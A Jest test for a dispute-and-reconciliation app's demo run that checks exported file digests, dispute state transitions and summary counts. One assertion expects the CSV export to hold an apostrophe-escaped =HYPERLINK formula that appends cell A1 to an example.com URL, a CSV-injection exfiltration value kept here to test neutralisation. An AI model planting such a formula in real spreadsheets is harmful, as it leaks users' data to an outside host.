import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { readdir, readFile, rm } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";

import { FORMATS, REPORT_TYPES } from "@docket/domain";

// A first start takes seven seconds, and much longer while other test files keep both cores busy.
jest.setTimeout(300_000);

const run = promisify(execFile);
const EXPORTS = REPORT_TYPES.length * Object.keys(FORMATS).length;
const DEMO_PROGRAM = fileURLToPath(new URL("../../dist/demo/main.js", import.meta.url));

describe("npm run demo", () => {
  it("exports every report in every format, takes a dispute through its lifecycle and shows the summary", async () => {
    const { stdout } = await run(process.execPath, [DEMO_PROGRAM], {
      // Otherwise the demo would use a stack that is running in the repository's own .docket.
      env: { PATH: process.env["PATH"], DOCKET_HOME: "/nonexistent/docket" },
    });
    const [, files = "", disputed = ""] =
      /^The \d+ exports are in (.+), the dispute's files in (.+)$/m.exec(stdout) ?? [];
    expect(stdout).toMatch(/^Done in [\d.]+ s\.$/m);

    const entries = await readdir(files, { withFileTypes: true });
    const names = entries.filter((entry) => entry.isFile()).map(({ name }) => name);
    expect(names).toHaveLength(EXPORTS);
    for (const name of names) {
      const bytes = await readFile(join(files, name));
      const digest = createHash("sha256").update(bytes).digest("hex");
      expect(stdout).toMatch(new RegExp(`${name} .* ${digest}  ok`));
    }

    const matched = (extension: string): Promise<string> => {
      const name = names.find((each) => each.startsWith("MATCHED_") && each.endsWith(extension));
      return readFile(join(files, name ?? ""), "utf8");
    };
    expect((JSON.parse(await matched(".json")) as unknown[]).length).toBeGreaterThan(40_000);
    const csv = await matched(".csv");
    expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""Open the invoice"")"`);

    const states = stdout.matchAll(/^ {2}(?:opened|evidence \S+|closed|reopened) .* ([A-Z_]+)$/gm);
    expect(Array.from(states, ([, state]) => state)).toEqual([
      "OPEN",
      "OPEN",
      "PENDING_EVIDENCE",
      "OPEN",
      "LOST",
      "OPEN",
      "WON",
    ]);
    expect(stdout).toMatch(/^ {2}dispute_state {2}WON$/m);
    const evidence = createHash("sha256").update(
      await readFile(join(disputed, "bank-statement.csv")),
    );
    expect(stdout).toContain(`SHA-256 ok\n  ${evidence.digest("hex")}\n`);

    const [, ...counted] = /^(\d+) transactions, (\d+) of them matched/m.exec(stdout) ?? [];
    const [total, paired] = counted.map((count) => Number(count).toLocaleString("en"));
    expect(stdout).toContain(`  transactions  ${total}: ${paired} matched, `);
    // The 17 disputes of the demo tenant, and the one that the demo has won.
    const disputes = "1 DRAFT, 7 OPEN, 3 PENDING_EVIDENCE, 5 WON, 2 LOST; 3 overdue, 71 % won";
    expect(stdout).toContain(`  disputes      ${disputes}\n`);

    // A demo that succeeds removes its home, with the database and the logs.
    expect(await readdir(dirname(files))).toEqual(["files"]);
    await rm(dirname(files), { recursive: true, force: true });
  });
});
